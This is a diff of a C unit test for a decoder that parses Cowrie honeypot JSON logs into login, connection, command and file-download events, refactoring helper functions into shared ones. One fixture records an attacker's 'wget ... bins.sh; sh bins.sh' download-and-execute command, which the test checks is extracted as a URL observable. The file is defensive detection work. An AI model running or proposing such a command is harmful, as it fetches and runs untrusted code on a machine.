@@ -4,50 +4,12 @@
 #include "vg_test.h"
 #include "logfmt.h"
 
-static struct vg_event *
-decode(const char *line)
-{
-	static struct vg_event ev;
-	static struct vg_logsrc ls;
-
-	vg_logsrc_init(&ls, "cowrie.json");
-	vg_event_reset(&ev);
-	(void)vg_logfmt_decode(&ls, vg_str_make(line, strlen(line)), &ev);
-	return &ev;
-}
-
-static const char *
-ip(const struct vg_addr *a)
-{
-	static char buf[VG_ADDR_STRLEN];
-
-	if (a->af == VG_AF_NONE)
-		return "";
-	vg_addr_format(a, buf);
-	return buf;
-}
-
-static const char *
-extra(const struct vg_event *ev, const char *name)
-{
-	static char buf[512];
-	unsigned i;
-
-	for (i = 0; i < ev->ev_nextra; i++)
-		if (strcmp(ev->ev_extra[i].ex_name, name) == 0) {
-			vg_str_copy(ev->ev_extra[i].ex_value, buf,
-			    sizeof(buf));
-			return buf;
-		}
-	return "";
-}
-
 VG_TEST(logfmt_cowrie_logins)
 {
 	struct vg_event *ev;
 
 	/* eventid last, as cowrie's Python writes it in some versions. */
-	ev = decode("{\"username\": \"admin\", \"timestamp\": "
+	ev = vg_test_decode("{\"username\": \"admin\", \"timestamp\": "
 	    "\"2018-05-08T00:07:59.055784Z\", \"message\": \"login attempt "
 	    "[admin/1234] failed\", \"src_ip\": \"185.222.209.151\", "
 	    "\"session\": \"1cffe6e0cee2\", \"password\": \"1234\", "
@@ -57,21 +19,23 @@ VG_TEST(logfmt_cowrie_logins)
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	ASSERT_VIEW_EQ(ev->ev_user, "admin");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "185.222.209.151");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "185.222.209.151");
 	ASSERT_VIEW_EQ(ev->ev_host, "920497a79896");
-	ASSERT_STR_EQ(extra(ev, "cowrie.password"), "1234");
-	ASSERT_STR_EQ(extra(ev, "cowrie.session"), "1cffe6e0cee2");
-	ev = decode("{\"eventid\":\"cowrie.login.success\",\"username\":"
-	    "\"root\",\"password\":\"test\",\"src_ip\":\"2001:db8::bad:1\","
-	    "\"src_port\":4022,\"timestamp\":\"2018-05-08T02:37:35Z\"}");
+	ASSERT_STR_EQ(vg_test_extra(ev, "cowrie.password"), "1234");
+	ASSERT_STR_EQ(vg_test_extra(ev, "cowrie.session"), "1cffe6e0cee2");
+	ev = vg_test_decode("{\"eventid\":\"cowrie.login.success\","
+	    "\"username\":\"root\",\"password\":\"test\",\"src_ip\":\"2001:db8:"
+	    ":bad:1\",\"src_port\":4022,\"timestamp\":\"2018-05-08T02:37:"
+	    "35Z\"}");
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_SUCCESS);
-	ASSERT_STR_EQ(ip(&ev->ev_src), "2001:db8::bad:1");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::bad:1");
 	ASSERT_INT_EQ(ev->ev_src_port, 4022);
-	ev = decode("{\"eventid\":\"cowrie.session.connect\",\"src_ip\":"
-	    "\"137.184.154.9\",\"src_port\":37416,\"dst_ip\":\"172.18.0.2\","
-	    "\"dst_port\":2222,\"timestamp\":\"2026-08-13T00:00:34.803989Z\"}");
+	ev = vg_test_decode("{\"eventid\":\"cowrie.session.connect\","
+	    "\"src_ip\":\"137.184.154.9\",\"src_port\":37416,\"dst_ip\":"
+	    "\"172.18.0.2\",\"dst_port\":2222,\"timestamp\":\"2026-08-13T00:00:"
+	    "34.803989Z\"}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_CONNECT);
-	ASSERT_STR_EQ(ip(&ev->ev_dst), "172.18.0.2");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_dst), "172.18.0.2");
 	ASSERT_INT_EQ(ev->ev_dst_port, 2222);
 }
 
@@ -81,36 +45,37 @@ VG_TEST(logfmt_cowrie_commands_and_files)
 	bool url = false;
 	unsigned i;
 
-	ev = decode("{\"eventid\":\"cowrie.command.input\",\"input\":\"cd "
-	    "/tmp; wget http://198.51.100.77/bins.sh; sh bins.sh\","
-	    "\"src_ip\":\"203.0.113.61\",\"timestamp\":\"2024-03-02T10:11:12Z\""
-	    "}");
+	ev = vg_test_decode("{\"eventid\":\"cowrie.command.input\",\"input\":"
+	    "\"cd /tmp; wget http://198.51.100.77/bins.sh; sh bins.sh\","
+	    "\"src_ip\":\"203.0.113.61\",\"timestamp\":\"2024-03-02T10:11:"
+	    "12Z\"}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_COMMAND);
-	ASSERT_STR_EQ(extra(ev, "process.command_line"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "process.command_line"),
 	    "cd /tmp; wget http://198.51.100.77/bins.sh; sh bins.sh");
 	for (i = 0; i < ev->ev_nobs; i++)
 		url |= ev->ev_obs[i].ob_kind == VG_OBS_URL &&
 		    VG_STR_EQ(ev->ev_obs[i].ob_value,
 		    "http://198.51.100.77/bins.sh");
 	ASSERT_TRUE(url);
-	ev = decode("{\"eventid\":\"cowrie.session.file_download\",\"url\":"
-	    "\"http://198.51.100.77/bins.sh\",\"shasum\":\"3f3b1f2d5c0c6ab0f0b7"
-	    "c8f6d1e3a5b7c9d2e4f6a8b0c1d3e5f7a9b1c3d5e7f9\",\"outfile\":"
-	    "\"dl/3f3b\",\"src_ip\":\"203.0.113.61\",\"timestamp\":"
-	    "\"2024-03-02T10:11:13Z\"}");
+	ev = vg_test_decode("{\"eventid\":\"cowrie.session.file_download\",\"ur"
+	    "l\":\"http://198.51.100.77/bins.sh\",\"shasum\":\"3f3b1f2d5c0c6ab0"
+	    "f0b7c8f6d1e3a5b7c9d2e4f6a8b0c1d3e5f7a9b1c3d5e7f9\",\"outfile\":\"d"
+	    "l/3f3b\",\"src_ip\":\"203.0.113.61\",\"timestamp\":\"2024-03-02T10"
+	    ":11:13Z\"}");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_FILE_TRANSFER);
 	ASSERT_VIEW_EQ(ev->ev_url, "http://198.51.100.77/bins.sh");
 	ASSERT_VIEW_EQ(ev->ev_hash, "3f3b1f2d5c0c6ab0f0b7c8f6d1e3a5b7c9d2e4f6a8"
 	    "b0c1d3e5f7a9b1c3d5e7f9");
-	ev = decode("{\"eventid\":\"cowrie.session.file_download.failed\","
-	    "\"url\":\"http://198.51.100.78/x86\",\"src_ip\":\"203.0.113.61\","
-	    "\"timestamp\":\"2024-03-02T10:11:14Z\"}");
+	ev = vg_test_decode("{\"eventid\":"
+	    "\"cowrie.session.file_download.failed\",\"url\":\"http://"
+	    "198.51.100.78/x86\",\"src_ip\":\"203.0.113.61\",\"timestamp\":"
+	    "\"2024-03-02T10:11:14Z\"}");
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	/* The tty log's hash is not a file the attacker brought. */
-	ev = decode("{\"eventid\":\"cowrie.log.closed\",\"shasum\":\"e3b0c442"
-	    "98fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\","
-	    "\"src_ip\":\"137.184.154.9\",\"timestamp\":"
-	    "\"2026-08-13T00:00:35Z\"}");
+	ev = vg_test_decode("{\"eventid\":\"cowrie.log.closed\",\"shasum\":\"e3"
+	    "b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\","
+	    "\"src_ip\":\"137.184.154.9\",\"timestamp\":\"2026-08-13T00:00:35Z"
+	    "\"}");
 	ASSERT_INT_EQ(ev->ev_hash.len, 0);
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_NONE);
 }
